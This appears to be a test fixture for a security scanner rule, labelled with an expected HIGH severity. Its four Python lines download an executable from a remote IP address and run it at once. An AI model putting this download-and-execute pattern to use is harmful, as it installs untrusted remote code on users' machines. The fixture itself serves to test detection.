# expect: HIGH
# rules: MAI123
import os, urllib.request
urllib.request.urlretrieve("http://198.51.100.7/u.exe", "u.exe")
os.startfile("u.exe")
